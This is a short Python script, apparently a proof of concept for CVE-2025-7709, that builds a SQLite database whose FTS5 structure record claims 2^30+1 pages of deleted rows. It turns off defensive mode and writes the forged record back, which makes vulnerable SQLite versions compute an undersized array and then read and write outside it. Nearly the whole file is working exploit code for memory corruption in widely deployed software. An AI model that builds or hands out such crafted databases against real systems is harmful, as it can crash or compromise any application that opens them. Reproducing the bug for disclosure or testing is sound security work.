"""Usage: craft.py SQLITE3 DATABASE ROWID

Writes a database with an index of FTS5 that claims 2^30 + 1 pages of deleted rows. FTS5 before 3.50.3 computes the size of an
array with an entry for each page in 32 bits, allocates a few bytes, and reads and writes the entry `ROWID % pages`
(CVE-2025-7709)."""

import subprocess
import sys

#: Whose product with the size of a pointer, 4 or 8 bytes, is just above a multiple of 2^32.
PAGES = (1 << 30) + 1

#: What a structure record of version 2 begins with, behind its cookie.
VERSION = b"\xff\0\0\1"

#: How many varints a segment has, and the index of the one that counts pages of deleted rows.
NUMBERS, DELETED_PAGES = 8, 5


def run(sqlite3, database, sql):
    done = subprocess.run([sqlite3, database], input=sql, text=True, capture_output=True, check=True)
    return done.stdout.strip()


def number(value):
    """A varint as SQLite writes it: seven bits in a byte, the highest first."""
    septets = [value & 0x7F]
    while value := value >> 7:
        septets.append(value & 0x7F | 0x80)
    return bytes(reversed(septets))


def changed(record):
    """The structure record of one level with one segment, whose varints have one byte each."""
    head, body = record[:8], record[8:]
    assert head[4:] == VERSION and max(body) < 0x80, record.hex()
    # Levels, segments and writes; merges and segments of each level, all empty but one.
    first = body.index(1, 3) + 1
    at = first + DELETED_PAGES
    assert len(body) == first + NUMBERS and body[at] == 1, record.hex()
    return head + body[:at] + number(PAGES) + body[at + 1 :]


def main():
    sqlite3, database, row = sys.argv[1:]
    run(
        sqlite3,
        database,
        f"""CREATE VIRTUAL TABLE t USING fts5(x, content='', contentless_delete=1);
        INSERT INTO t(rowid, x) VALUES ({row}, 'alpha'), ({row} + 1, 'beta');
        DELETE FROM t WHERE rowid = {row} + 1;""",
    )
    record = bytes.fromhex(run(sqlite3, database, "SELECT hex(block) FROM t_data WHERE id = 10"))
    run(sqlite3, database, f".dbconfig defensive off\nUPDATE t_data SET block = x'{changed(record).hex()}' WHERE id = 10;")


main()
